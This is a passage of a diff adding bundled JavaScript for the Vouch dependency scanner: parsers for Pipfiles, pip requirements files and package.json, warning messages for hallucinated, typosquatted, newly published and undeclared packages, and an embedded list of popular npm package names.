+    const first = entries[0];
+    return { pypi, defaultIsPypi: first === undefined || isPypi(first) };
+}
+function sourceOf(spec, sources) {
+    if (isTable(spec) && pipfile_LOCAL_KEYS.some((key) => key in spec))
+        return 'local';
+    const index = isTable(spec) ? spec['index'] : undefined;
+    if (typeof index === 'string')
+        return sources.pypi.has(index) ? 'registry' : 'private-index';
+    return sources.defaultIsPypi ? 'registry' : 'private-index';
+}
+/** The packages of every category of a Pipfile (`[packages]`, `[dev-packages]` and custom ones). */
+function parsePipfile(path, text) {
+    const parsed = parseToml(path, text);
+    if (parsed.kind === 'note')
+        return { declarations: [], notes: [parsed.note] };
+    const lines = new LineIndex(text);
+    const locate = new TomlLocator(text);
+    const sources = sourcesOf(parsed.root);
+    const declarations = [];
+    for (const [category, packages] of Object.entries(parsed.root)) {
+        if (NOT_CATEGORIES.has(category) || !isTable(packages))
+            continue;
+        for (const [name, spec] of Object.entries(packages)) {
+            if (!PYPI_NAME.test(name))
+                continue;
+            declarations.push({
+                ecosystem: 'pypi',
+                name,
+                registryName: name,
+                source: sourceOf(spec, sources),
+                path,
+                region: lines.region(locate.key([category], name), name.length),
+            });
+        }
+    }
+    return { declarations, notes: [] };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/requirements.ts
+
+
+const COMMENT = /(?:^|\s+)#.*$/;
+const ARCHIVE = /\.(?:whl|zip|tar\.gz|tgz|tar\.bz2|tar\.xz|tar)$/i;
+const PYPI_HOSTS = /^https?:\/\/(?:pypi\.org|pypi\.python\.org|files\.pythonhosted\.org)(?:[/:]|$)/i;
+const EGG = /[#&]egg=([A-Za-z0-9][A-Za-z0-9._-]*)/;
+function logicalLines(text) {
+    const lines = [];
+    let current;
+    let offset = 0;
+    for (const raw of text.split('\n')) {
+        const physical = raw.endsWith('\r') ? raw.slice(0, -1) : raw;
+        const piece = { at: current?.text.length ?? 0, from: offset };
+        current = current ?? { text: '', pieces: [] };
+        current.pieces.push(piece);
+        const continued = physical.endsWith('\\');
+        current.text += continued ? physical.slice(0, -1) : physical;
+        if (!continued) {
+            lines.push(current);
+            current = undefined;
+        }
+        offset += raw.length + 1;
+    }
+    if (current !== undefined)
+        lines.push(current);
+    return lines;
+}
+function fileOffset(line, at) {
+    const piece = [...line.pieces].reverse().find((candidate) => candidate.at <= at) ?? line.pieces[0];
+    return (piece?.from ?? 0) + at - (piece?.at ?? 0);
+}
+/** `-r x`, `-rx`, `--requirement x`, `--requirement=x` → `x`. */
+function optionValue(text, short, long) {
+    const match = new RegExp(`^(?:${long}(?:\\s+|\\s*=\\s*)|${short}\\s*)(\\S+)`).exec(text);
+    return match?.[1];
+}
+function requirements_option(text) {
+    const include = optionValue(text, '-r', '--requirement');
+    if (include !== undefined)
+        return { include };
+    const editable = optionValue(text, '-e', '--editable');
+    if (editable !== undefined)
+        return { editable };
+    if (/^--no-index\b/.test(text))
+        return { otherIndex: true };
+    const index = optionValue(text, '-i', '--index-url') ??
+        optionValue(text, '--extra-index-url', '--extra-index-url') ??
+        optionValue(text, '-f', '--find-links');
+    return index !== undefined && !PYPI_HOSTS.test(index) ? { otherIndex: true } : undefined;
+}
+function requirements_declare(context, name, offset, source) {
+    return {
+        ecosystem: 'pypi',
+        name,
+        registryName: name,
+        source,
+        path: context.path,
+        region: context.lines.region(offset, name.length),
+    };
+}
+/** An editable install names no registry package, but `#egg=name` tells which import it provides. */
+function editableDeclaration(context, line, value) {
+    const egg = EGG.exec(value);
+    if (egg?.[1] === undefined)
+        return undefined;
+    const at = line.text.indexOf(egg[0]) + egg[0].length - egg[1].length;
+    return requirements_declare(context, egg[1], fileOffset(line, at), 'local');
+}
+/**
+ * Parses one requirements file (https://pip.pypa.io/en/stable/reference/requirements-file-format/):
+ * options, `-e` and URL or path lines declare nothing from PyPI; `name @ url` declares a local package.
+ */
+function parseRequirements(path, text) {
+    const context = { path, lines: new LineIndex(text) };
+    const declarations = [];
+    const includes = [];
+    let usesOtherIndex = false;
+    for (const line of logicalLines(text)) {
+        const content = line.text.replace(COMMENT, '');
+        const lead = content.length - content.trimStart().length;
+        const body = content.trim();
+        if (body === '')
+            continue;
+        if (body.startsWith('-')) {
+            const effect = requirements_option(body);
+            if (effect === undefined)
+                continue;
+            if ('include' in effect) {
+                includes.push({ target: effect.include, line: context.lines.position(fileOffset(line, lead)).line });
+            }
+            else if ('editable' in effect) {
+                const found = editableDeclaration(context, line, effect.editable);
+                if (found !== undefined)
+                    declarations.push(found);
+            }
+            else
+                usesOtherIndex = true;
+            continue;
+        }
+        const requirement = parseRequirement(body);
+        if (requirement === undefined || ARCHIVE.test(requirement.name))
+            continue;
+        const offset = fileOffset(line, lead + requirement.offset);
+        declarations.push(requirements_declare(context, requirement.name, offset, requirement.source));
+    }
+    return { declarations, includes, usesOtherIndex };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/requirements-includes.ts
+
+
+/** Files pip users name as requirements: requirements*.txt, requirements/*.txt and pip-tools' .in files. */
+const REQUIREMENTS_FILE = /(?:^|\/)(?:requirements[^/]*|requirements\/[^/]+)\.(?:txt|in)$/i;
+/** Where an include points, or undefined when it leaves the repository or is a URL. */
+function includedPath(from, target) {
+    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(target) || external_node_path_.posix.isAbsolute(target) || target.includes('\\'))
+        return undefined;
+    const joined = external_node_path_.posix.normalize(external_node_path_.posix.join(external_node_path_.posix.dirname(from), target));
+    return joined === '..' || joined.startsWith('../') ? undefined : joined;
+}
+/**
+ * Every requirements file, and every file they include with `-r` (followed inside the repository only,
+ * each file read once however often it is included). A file that names another index, or is included
+ * by one that does, installs from that index, so its packages are not looked up on PyPI.
+ */
+async function readRequirements(files, readText) {
+    const known = new Set(files);
+    const parsed = new Map();
+    const notes = [];
+    const queue = files.filter((file) => REQUIREMENTS_FILE.test(file));
+    const otherIndex = new Set();
+    while (queue.length > 0) {
+        const path = queue.shift();
+        if (parsed.has(path))
+            continue;
+        const text = await readText(path);
+        if (text === undefined) {
+            notes.push({ path, message: `${path} was not checked: it could not be read as UTF-8 text` });
+            continue;
+        }
+        const file = parseRequirements(path, text);
+        parsed.set(path, file);
+        if (file.usesOtherIndex)
+            otherIndex.add(path);
+        for (const include of file.includes) {
+            const target = includedPath(path, include.target);
+            if (target !== undefined && known.has(target))
+                queue.push(target);
+            else {
+                const message = `${path}:${include.line}: \`-r ${include.target}\` was not followed: it is not a file in the repository`;
+                notes.push({ path, message });
+            }
+        }
+    }
+    propagateOtherIndex(parsed, otherIndex);
+    const declarations = [...parsed.entries()].flatMap(([path, file]) => file.declarations.map((declaration) => otherIndex.has(path) && declaration.source === 'registry'
+        ? { ...declaration, source: 'private-index' }
+        : declaration));
+    return { declarations, notes };
+}
+function propagateOtherIndex(parsed, marked) {
+    const pending = [...marked];
+    while (pending.length > 0) {
+        const path = pending.pop();
+        for (const include of parsed.get(path)?.includes ?? []) {
+            const target = includedPath(path, include.target);
+            if (target === undefined || marked.has(target) || !parsed.has(target))
+                continue;
+            marked.add(target);
+            pending.push(target);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/manifests.ts
+
+
+
+
+
+
+
+/** Installed or vendored code is not the repository's own declarations. */
+const VENDORED = /(?:^|\/)(?:node_modules|bower_components|site-packages|\.venv|venv)\//;
+/** Python manifests Vouch does not read: with one of these, the declared set is incomplete. */
+const UNREAD_PYTHON_MANIFEST = /(?:^|\/)(?:setup\.py|setup\.cfg|environment\.ya?ml)$/;
+function dirOf(path) {
+    const dir = external_node_path_.posix.dirname(path);
+    return dir === '.' ? '' : dir;
+}
+/** requirements/base.txt belongs to the project that contains the requirements/ directory. */
+function projectDir(manifest) {
+    const dir = dirOf(manifest);
+    return external_node_path_.posix.basename(dir) === 'requirements' ? dirOf(dir) : dir;
+}
+/**
+ * Groups Python declarations by project directory. A project with a setup.py, setup.cfg or conda
+ * environment file may declare more than Vouch reads, so its imports are not compared at all.
+ */
+function pythonProjects(files, declarations) {
+    const unread = new Set(files.filter((file) => UNREAD_PYTHON_MANIFEST.test(file)).map(dirOf));
+    const projects = new Map();
+    for (const declaration of declarations) {
+        const dir = projectDir(declaration.path);
+        if (unread.has(dir))
+            continue;
+        const names = projects.get(dir) ?? new Set();
+        names.add(normalizePypiName(declaration.name));
+        projects.set(dir, names);
+    }
+    return projects;
+}
+function basename(path) {
+    return path.slice(path.lastIndexOf('/') + 1);
+}
+async function parseEach(repo, paths, parse) {
+    return Promise.all(paths.map(async (path) => {
+        const text = await repo.readText(path);
+        if (text !== undefined)
+            return parse(path, text);
+        return {
+            declarations: [],
+            notes: [{ path, message: `${path} was not checked: it could not be read as UTF-8 text` }],
+        };
+    }));
+}
+async function npmManifests(repo, files) {
+    const paths = files.filter((file) => basename(file) === 'package.json');
+    const parsed = await Promise.all(paths.map(async (path) => {
+        const text = await repo.readText(path);
+        return text === undefined ? undefined : { path, ...parsePackageJson(path, text) };
+    }));
+    const workspaceNames = new Set(parsed.flatMap((file) => (file?.packageName === undefined ? [] : [file.packageName])));
+    const npmDeclared = new Map();
+    const declarations = [];
+    const notes = [];
+    parsed.forEach((file, index) => {
+        const path = paths[index] ?? '';
+        if (file === undefined) {
+            notes.push({ path, message: `${path} was not checked: it could not be read as UTF-8 text` });
+            return;
+        }
+        notes.push(...file.notes);
+        // A package.json that does not parse declares nothing we know of: its code is not compared with it.
+        if (file.notes.length > 0)
+            return;
+        const dir = dirOf(path);
+        npmDeclared.set(dir, new Set(file.declarations.map((declaration) => declaration.name)));
+        for (const declaration of file.declarations) {
+            const local = workspaceNames.has(declaration.registryName) || workspaceNames.has(declaration.name);
+            declarations.push(local ? { ...declaration, source: 'local' } : declaration);
+        }
+    });
+    return { declarations, notes, npmDeclared, workspaceNames };
+}
+/** Reads and parses every dependency manifest of the repository. */
+async function readManifests(repo) {
+    const files = repo.files.filter((file) => !VENDORED.test(file));
+    const npm = await npmManifests(repo, files);
+    const requirements = await readRequirements(files, (path) => repo.readText(path));
+    const toml = [
+        ...(await parseEach(repo, files.filter((file) => basename(file) === 'pyproject.toml'), parsePyproject)),
+        ...(await parseEach(repo, files.filter((file) => basename(file) === 'Pipfile'), parsePipfile)),
+    ];
+    const npmrcText = files.includes('.npmrc') ? await repo.readText('.npmrc') : undefined;
+    const npmrc = npmrcText === undefined
+        ? { registries: new Map(), notes: [] }
+        : parseNpmrc('.npmrc', npmrcText);
+    const python = [...requirements.declarations, ...toml.flatMap((file) => file.declarations)];
+    return {
+        declarations: [...npm.declarations, ...python],
+        notes: [...npm.notes, ...requirements.notes, ...toml.flatMap((file) => file.notes), ...npmrc.notes],
+        npmDeclared: npm.npmDeclared,
+        workspaceNames: npm.workspaceNames,
+        scopeRegistries: npmrc.registries,
+        pythonDeclared: pythonProjects(files, python),
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/messages.ts
+const REGISTRY_NAME = { npm: 'npm', pypi: 'PyPI' };
+const DAY_MS = 24 * 60 * 60 * 1000;
+const SQUAT_REASON = {
+    edit: 'one or two characters differ',
+    transposition: 'two adjacent characters are swapped',
+    separator: 'only the separators (-, _, . or none) differ',
+    homoglyph: 'only look-alike characters (rn/m, l/1/I, 0/o) differ',
+    scope: 'only the npm scope differs',
+};
+function at(declaration) {
+    return { location: { path: declaration.path, region: declaration.region }, evidence: declaration.name };
+}
+function fetched(declaration) {
+    return declaration.registryName === declaration.name
+        ? ''
+        : ` (installed as \`${declaration.registryName}\`)`;
+}
+function hallucinated(rule, declaration, context) {
+    const why = context.detail ?? `${context.registry} answered 404`;
+    const where = context.isPublic ? REGISTRY_NAME[declaration.ecosystem] : "its scope's registry";
+    const risk = context.isPublic
+        ? ' — slopsquatting risk. Anyone can publish a package under this name, and installing it would run their code.'
+        : '. Nothing can install it until a package of that name is published there.';
+    const guess = context.squat === undefined ? '' : ` Did you mean \`${context.squat.target}\`?`;
+    return {
+        ruleId: rule.id,
+        message: `\`${declaration.name}\`${fetched(declaration)} does not exist on ${where} (${why}): ` +
+            `possible hallucinated dependency${risk}${guess}`,
+        ...at(declaration),
+    };
+}
+function newlyPublished(rule, declaration, context) {
+    const days = Math.max(0, Math.floor((context.now.getTime() - context.created.getTime()) / DAY_MS));
+    const age = days === 0 ? 'today' : days === 1 ? '1 day ago' : `${days} days ago`;
+    return {
+        ruleId: rule.id,
+        message: `\`${declaration.registryName}\` was first published to ${REGISTRY_NAME[declaration.ecosystem]} on ` +
+            `${context.created.toISOString().slice(0, 10)} (${age}, less than ${context.minAgeDays} days): newly ` +
+            `published package. Review who publishes it and what it does before depending on it.`,
+        ...at(declaration),
+    };
+}
+function typosquat(rule, declaration, squat) {
+    return {
+        ruleId: rule.id,
+        message: `\`${declaration.registryName}\` looks like a typosquat of the popular package \`${squat.target}\` ` +
+            `(${SQUAT_REASON[squat.kind]}). Check that this is the package you meant.`,
+        ...at(declaration),
+    };
+}
+/** `checked` names what was searched, as the subject of "… declares it": `no package.json in scope (…)`. */
+function undeclaredImport(rule, found, checked, providers = []) {
+    const { first, otherFiles } = found;
+    const elsewhere = otherFiles === 0 ? '' : ` (and in ${otherFiles} other file${otherFiles === 1 ? '' : 's'})`;
+    const install = first.ecosystem === 'npm' ? 'npm install' : 'pip install';
+    const provided = providers.length === 0
+        ? ''
+        : ` The import \`${first.module}\` is provided by ${providers.map((name) => `\`${name}\``).join(' or ')}.`;
+    return {
+        ruleId: rule.id,
+        message: `\`${first.module}\` is imported here${elsewhere} but ${checked} declares it: undeclared import.${provided} ` +
+            `Declare the package you mean, with a version; installing the import name by hand ` +
+            `(\`${install} ${first.module}\`) gets whatever that name points to.`,
+        location: { path: first.path, region: first.region },
+        evidence: first.module,
+    };
+}
+/** One note per registry that could not answer for some packages. */
+function unreachable(registry, reasons, packages, total) {
+    const distinct = [...new Set(reasons)].slice(0, 3).join('; ');
+    return {
+        message: `The registry ${registry} could not be reached for ${packages} of ${total} package(s) (${distinct}): the ` +
+            `checks for missing (possibly hallucinated) and newly published packages were skipped for them. The ` +
+            `typosquat and undeclared-import checks, which need no network, still ran.`,
+    };
+}
+function offline(lookups) {
+    return {
+        message: `Offline: ${lookups} package(s) were not looked up on their registries, so the checks for missing ` +
+            `(possibly hallucinated) and newly published packages were skipped. The typosquat and undeclared-import ` +
+            `checks still ran.`,
+    };
+}
+
+;// CONCATENATED MODULE: ./data/popular-packages/npm.json
+const npm_namespaceObject = /*#__PURE__*/JSON.parse('{"Dy":["semver","ansi-styles","debug","supports-color","chalk","ms","tslib","lru-cache","strip-ansi","ansi-regex","has-flag","commander","minimatch","color-convert","color-name","glob","string-width","readable-stream","safe-buffer","emoji-regex","brace-expansion","uuid","source-map","wrap-ansi","yallist","inherits","signal-exit","picomatch","balanced-match","escape-string-regexp","mime-types","mime-db","js-yaml","argparse","type-fest","cross-spawn","which","isexe","path-key","shebang-command","shebang-regex","find-up","locate-path","p-locate","p-limit","path-exists","yocto-queue","fs-extra","graceful-fs","jsonfile","universalify","camelcase","yargs","yargs-parser","cliui","y18n","get-caller-file","require-directory","escalade","is-fullwidth-code-point","string_decoder","util-deprecate","kind-of","is-number","to-regex-range","fill-range","braces","micromatch","chokidar","anymatch","normalize-path","glob-parent","is-glob","is-extglob","readdirp","binary-extensions","is-binary-path","fsevents","once","wrappy","minipass","rimraf","mkdirp","postcss","nanoid","picocolors","source-map-js","ajv","fast-deep-equal","json-schema-traverse","uri-js","punycode","fast-json-stable-stringify","json5","lodash","lodash-es","lodash.merge","lodash.get","lodash.set","lodash.debounce","lodash.throttle","lodash.isequal","lodash.clonedeep","lodash.camelcase","lodash.sortby","lodash.memoize","lodash.uniq","lodash.isplainobject","lodash.flatten","underscore","ramda","async","bluebird","q","rxjs","zone.js","core-js","core-js-compat","regenerator-runtime","@babel/core","@babel/runtime","@babel/parser","@babel/types","@babel/traverse","@babel/generator","@babel/template","@babel/code-frame","@babel/helper-plugin-utils","@babel/preset-env","@babel/preset-react","@babel/preset-typescript","@babel/plugin-transform-runtime","@babel/cli","@babel/register","@babel/eslint-parser","@babel/compat-data","@babel/highlight","@babel/helper-module-imports","babel-core","babel-loader","babel-jest","babel-eslint","babel-runtime","babel-polyfill","babel-cli","babel-preset-env","babel-plugin-istanbul","babel-plugin-macros","babel-preset-current-node-syntax","babel-preset-jest","@types/node","@types/react","@types/react-dom","@types/express","@types/jest","@types/lodash","@types/estree","@types/json-schema","@types/prop-types","@types/mocha","@types/chai","@types/uuid","@types/semver","@types/yargs","@types/body-parser","@types/cors","@types/jsonwebtoken","@types/bcrypt","@types/supertest","@types/fs-extra","@types/glob","@types/minimatch","@types/debug","@types/ws","@types/qs","@types/istanbul-lib-coverage","@types/babel__core","@types/graceful-fs","@types/normalize-package-data","@types/hast","@types/mdast","@types/unist","typescript","ts-node","tsx","ts-jest","ts-loader","@typescript-eslint/parser","@typescript-eslint/eslint-plugin","@typescript-eslint/utils","@typescript-eslint/types","@typescript-eslint/typescript-estree","typescript-eslint","eslint","eslint-scope","eslint-visitor-keys","espree","esquery","esrecurse","estraverse","esutils","acorn","acorn-walk","acorn-jsx","esprima","@eslint/js","@eslint/eslintrc","eslint-config-prettier","eslint-plugin-prettier","eslint-plugin-import","eslint-plugin-react","eslint-plugin-react-hooks","eslint-plugin-react-refresh","eslint-plugin-jsx-a11y","eslint-plugin-jest","eslint-plugin-node","eslint-plugin-n","eslint-plugin-promise","eslint-plugin-vue","eslint-plugin-unicorn","eslint-plugin-simple-import-sort","eslint-config-airbnb","eslint-config-airbnb-base","eslint-config-next","eslint-config-standard","eslint-import-resolver-node","eslint-import-resolver-typescript","eslint-module-utils","prettier","prettier-plugin-tailwindcss","stylelint","husky","lint-staged","commitizen","@commitlint/cli","@commitlint/config-conventional","jest","jest-cli","jest-environment-jsdom","jest-environment-node","jest-util","jest-worker","jest-mock","jest-circus","jest-resolve","jest-snapshot","jest-diff","expect","pretty-format","@jest/core","@jest/globals","@jest/types","vitest","@vitest/coverage-v8","mocha","chai","sinon","nyc","c8","istanbul-lib-coverage","istanbul-lib-instrument","istanbul-reports","supertest","superagent","nock","msw","cypress","playwright","@playwright/test","puppeteer","puppeteer-core","selenium-webdriver","webdriverio","karma","jasmine","jasmine-core","ava","tap","@testing-library/react","@testing-library/jest-dom","@testing-library/user-event","@testing-library/dom","enzyme","jsdom","jsdoc","happy-dom","react","react-dom","react-is","react-router","react-router-dom","react-redux","redux","redux-thunk","redux-saga","@reduxjs/toolkit","reselect","immer","zustand","mobx","mobx-react","recoil","jotai","react-query","@tanstack/react-query","@tanstack/react-table","@tanstack/query-core","swr","react-hook-form","formik","yup","zod","joi","ajv-formats","class-validator","class-transformer","react-select","react-datepicker","react-dropzone","react-icons","react-transition-group","react-modal","react-helmet","react-helmet-async","react-i18next","i18next","react-intl","react-native","react-native-web","react-scripts","react-dev-utils","react-error-overlay","react-refresh","react-spring","framer-motion","react-beautiful-dnd","react-dnd","react-window","react-virtualized","react-chartjs-2","chart.js","recharts","d3","three","@react-three/fiber","styled-components","@emotion/react","@emotion/styled","@emotion/cache","@mui/material","@mui/icons-material","@mui/system","@mui/x-date-pickers","@material-ui/core","antd","bootstrap","react-bootstrap","tailwindcss","tailwind-merge","clsx","classnames","class-variance-authority","lucide-react","@headlessui/react","@heroicons/react","@radix-ui/react-dialog","@radix-ui/react-slot","@radix-ui/react-dropdown-menu","@radix-ui/react-popover","@radix-ui/react-tooltip","@fortawesome/fontawesome-svg-core","@fortawesome/react-fontawesome","@fortawesome/free-solid-svg-icons","font-awesome","preact","vue","vue-router","vuex","pinia","@vue/compiler-sfc","@vue/test-utils","@vitejs/plugin-vue","nuxt","svelte","@sveltejs/kit","angular","@angular/core","@angular/common","@angular/compiler","@angular/platform-browser","@angular/forms","@angular/router","@angular/cli","@angular/material","@angular/animations","@angular-devkit/build-angular","solid-js","lit","jquery","jquery-ui","backbone","handlebars","mustache","ejs","pug","nunjucks","marked","markdown-it","remark","rehype","unified","highlight.js","prismjs","dompurify","sanitize-html","xss","he","entities","htmlparser2","cheerio","parse5","domhandler","domutils","css-select","next","next-auth","@next/env","gatsby","remix","@remix-run/react","astro","vite","@vitejs/plugin-react","@vitejs/plugin-react-swc","webpack","webpack-cli","webpack-dev-server","webpack-merge","webpack-bundle-analyzer","html-webpack-plugin","mini-css-extract-plugin","css-loader","style-loader","sass-loader","postcss-loader","file-loader","url-loader","copy-webpack-plugin","terser-webpack-plugin","terser","uglify-js","esbuild","rollup","@rollup/plugin-node-resolve","@rollup/plugin-commonjs","@rollup/plugin-typescript","@rollup/plugin-babel","@rollup/plugin-json","@rollup/pluginutils","rollup-plugin-terser","parcel","@swc/core","@swc/helpers","swc-loader","tsup","turbo","nx","lerna","@nrwl/workspace","browserslist","caniuse-lite","electron-to-chromium","autoprefixer","postcss-preset-env","postcss-import","postcss-nested","cssnano","sass","node-sass","less","less-loader","stylus","express","body-parser","cookie-parser","cors","helmet","morgan","compression","express-session","express-validator","express-rate-limit","multer","serve-static","serve-favicon","connect","koa","koa-router","@koa/router","koa-body","koa-bodyparser","fastify","@fastify/cors","hapi","@hapi/hapi","restify","@nestjs/core","@nestjs/common","@nestjs/platform-express","@nestjs/config","@nestjs/testing","@nestjs/typeorm","@nestjs/swagger","@nestjs/jwt","@nestjs/passport","@nestjs/cli","reflect-metadata","http-errors","http-proxy","http-proxy-middleware","http-status-codes","statuses","on-finished","finalhandler","send","etag","fresh","range-parser","raw-body","content-type","content-disposition","accepts","negotiator","vary","depd","destroy","encodeurl","escape-html","merge-descriptors","methods","parseurl","path-to-regexp","proxy-addr","qs","type-is","utils-merge","cookie","cookie-signature","iconv-lite","safer-buffer","bytes","setprototypeof","toidentifier","ee-first","unpipe","axios","node-fetch","cross-fetch","isomorphic-fetch","whatwg-fetch","got","request","request-promise","undici","ky","form-data","follow-redirects","proxy-from-env","https-proxy-agent","http-proxy-agent","agent-base","socks-proxy-agent","ws","socket.io","socket.io-client","engine.io","graphql","graphql-tag","@apollo/client","apollo-server","apollo-server-express","@apollo/server","graphql-request","mongoose","mongodb","bson","mysql","mysql2","pg","pg-pool","pg-promise","sqlite3","better-sqlite3","sequelize","typeorm","prisma","@prisma/client","knex","objection","redis","ioredis","bull","bullmq","amqplib","kafkajs","@aws-sdk/client-s3","@aws-sdk/client-dynamodb","@aws-sdk/lib-dynamodb","@aws-sdk/client-sqs","@aws-sdk/client-lambda","@aws-sdk/client-secrets-manager","@aws-sdk/s3-request-presigner","@aws-sdk/credential-providers","aws-sdk","aws-cdk-lib","constructs","@google-cloud/storage","@google-cloud/firestore","@google-cloud/pubsub","googleapis","google-auth-library","firebase","firebase-admin","@azure/identity","@azure/storage-blob","@octokit/rest","@octokit/core","@actions/core","@actions/github","@actions/exec","@actions/tool-cache","@sentry/node","@sentry/react","@sentry/browser","@supabase/supabase-js","stripe","twilio","nodemailer","@sendgrid/mail","openai","@anthropic-ai/sdk","langchain","@langchain/core","@langchain/openai","ai","@ai-sdk/openai","@google/generative-ai","@modelcontextprotocol/sdk","jsonwebtoken","jwt-decode","jose","passport","passport-jwt","passport-local","passport-google-oauth20","bcrypt","bcryptjs","argon2","crypto-js","node-forge","jsrsasign","tweetnacl","elliptic","bn.js","ethers","web3","@solana/web3.js","dotenv","dotenv-expand","config","convict","cross-env","env-cmd","nodemon","pm2","concurrently","npm-run-all","forever","winston","pino","pino-pretty","bunyan","log4js","loglevel","signale","moment","moment-timezone","dayjs","date-fns","luxon","numeral","big.js","bignumber.js","decimal.js","mathjs","validator","shortid","cuid","@paralleldrive/cuid2","ulid","qrcode","sharp","jimp","canvas","pdfkit","pdf-lib","pdfjs-dist","xlsx","exceljs","csv-parse","csv-parser","papaparse","fast-csv","xml2js","fast-xml-parser","xmlbuilder","yaml","toml","ini","minimist","meow","inquirer","prompts","enquirer","ora","listr2","boxen","figlet","cli-table3","cli-progress","progress","kleur","colors","colorette","chalk-template","log-symbols","cli-cursor","cli-spinners","execa","shelljs","zx","open","globby","fast-glob","del","ncp","copyfiles","cpy","archiver","adm-zip","jszip","tar","tar-fs","tar-stream","unzipper","yauzl","yazl","decompress","node-gyp","node-pre-gyp","@mapbox/node-pre-gyp","prebuild-install","bindings","nan","node-addon-api","tmp","temp","tempy","mime","file-type","busboy","formidable","on-headers","eventemitter3","events","mitt","p-queue","p-map","p-retry","p-timeout","async-retry","retry","node-cache","keyv","cacheable-request","quick-lru","deepmerge","deep-equal","fast-equals","clone","rfdc","object-assign","object-hash","immutable","hoist-non-react-statics","prop-types","invariant","warning","loose-envify","js-tokens","scheduler","use-sync-external-store","path-browserify","buffer","process","util","assert","stream-browserify","crypto-browserify","querystring","url","os-browserify","string-hash","hash-sum","md5","sha1","crc","crc-32","base64-js","ieee754","pako","fflate","zlib","node-cron","cron","agenda","bottleneck","socket.io-redis","watchpack","ignore","multimatch","is-plain-object","is-stream","is-promise","isobject","is-callable","has","has-symbols","function-bind","get-intrinsic","call-bind","define-properties","object-keys","es-abstract","side-channel","semver-compare","compare-versions","diff","jsondiffpatch","json-stringify-safe","safe-stable-stringify","flatted","json-bigint","querystringify","url-parse","whatwg-url","tr46","webidl-conversions","abort-controller","node-abort-controller","event-target-shim","domexception","web-streams-polyfill","formdata-polyfill","fetch-blob","data-uri-to-buffer","encoding","iconv","tough-cookie","set-cookie-parser","universal-cookie","js-cookie","react-cookie","localforage","idb","dexie","socket.io-parser","simple-git","isomorphic-git","@octokit/webhooks","probot","semantic-release","@semantic-release/git","@semantic-release/github","@changesets/cli","standard-version","conventional-changelog-cli","release-it","np","verdaccio","patch-package","postinstall-postinstall","npm","yarn","pnpm","npm-check-updates","corepack","node","electron","electron-builder","electron-updater","@electron/remote","@tauri-apps/api","expo","react-native-reanimated","react-native-gesture-handler","react-native-screens","react-native-safe-area-context","@react-navigation/native","@react-navigation/stack","@react-native-async-storage/async-storage","ionic","@ionic/angular","@capacitor/core","cordova","storybook","@storybook/react","@storybook/addon-essentials","chromatic","sass-embedded","svgo","@svgr/webpack","imagemin","web-vitals","workbox-webpack-plugin","leaflet","mapbox-gl","ol","lottie-web","gsap","animejs","swiper","slick-carousel","hammerjs","fabric","konva","pixi.js","phaser","matter-js","cannon-es","tone","howler","video.js","hls.js","plyr","peerjs","simple-peer","mqtt","cassandra-driver","neo4j-driver","@elastic/elasticsearch","elasticsearch","algoliasearch","meilisearch","typesense","mssql","tedious","oracledb","ldapjs","ssh2","node-ssh","ftp","basic-ftp","ssh2-sftp-client","puppeteer-extra","turndown","showdown","remarkable","gray-matter","front-matter","slugify","pluralize","change-case","camelcase-keys","snake-case","title-case","string-similarity","fuse.js","lunr","flexsearch","natural","compromise","franc","sentiment","i18n","intl-messageformat","globalize","accounting","currency.js","dinero.js","libphonenumber-js","google-libphonenumber","email-validator","card-validator","country-list","countries-list","world-countries","faker","@faker-js/faker","chance","casual","json-server","http-server","serve","live-server","browser-sync","local-web-server","localtunnel","ngrok","vercel","netlify-cli","firebase-tools","serverless","aws-amplify","@aws-amplify/ui-react","amazon-cognito-identity-js","aws-lambda","@types/aws-lambda","docker-compose","dockerode","kubernetes-client","@kubernetes/client-node","@pulumi/pulumi","@pulumi/aws","cdktf","swagger-ui-express","swagger-jsdoc","openapi-types","@apidevtools/swagger-parser","yamljs","json-schema","jsonschema","json-schema-to-typescript","quicktype","protobufjs","google-protobuf","@grpc/grpc-js","@grpc/proto-loader","grpc","thrift","avsc","msgpack-lite","@msgpack/msgpack","cbor","bson-ext","long","fastestsmallesttextencoderdecoder","text-encoding","utf-8-validate","bufferutil","node-machine-id","systeminformation","os-utils","pidusage","ps-list","tree-kill","fkill","dotenv-cli","envalid","@t3-oss/env-nextjs","superjson","@trpc/server","@trpc/client","drizzle-orm","drizzle-kit","kysely","@planetscale/database","@neondatabase/serverless","@vercel/postgres","@vercel/analytics","@upstash/redis","convex","@clerk/nextjs","lucia","@auth/core","iron-session","cookie-session","csurf","helmet-csp","hpp","express-mongo-sanitize","xss-clean","rate-limiter-flexible","express-slow-down","connect-redis","connect-mongo","memorystore","uuid-validate","ip","ipaddr.js","is-ip","netmask","cidr-regex","dns-packet","node-ipc","systemjs","requirejs","browserify","gulp","gulp-sass","gulp-uglify","gulp-concat","gulp-rename","gulp-babel","grunt","grunt-cli","bower","yeoman-generator","yo","plop","hygen","degit","create-react-app","create-next-app","@vue/cli","@angular/compiler-cli","ng-packagr","rxjs-compat","tsconfig-paths","tsconfig-paths-webpack-plugin","module-alias","esm","source-map-support","@jridgewell/trace-mapping","@jridgewell/sourcemap-codec","magic-string","estree-walker","@rollup/rollup-linux-x64-gnu","@esbuild/linux-x64","@esbuild/darwin-arm64","lightningcss","@parcel/watcher","detect-libc","node-releases","update-browserslist-db","ua-parser-js","bowser","platform","mobile-detect","device-detector-js"]}');
+;// CONCATENATED MODULE: ./data/popular-packages/pypi.json
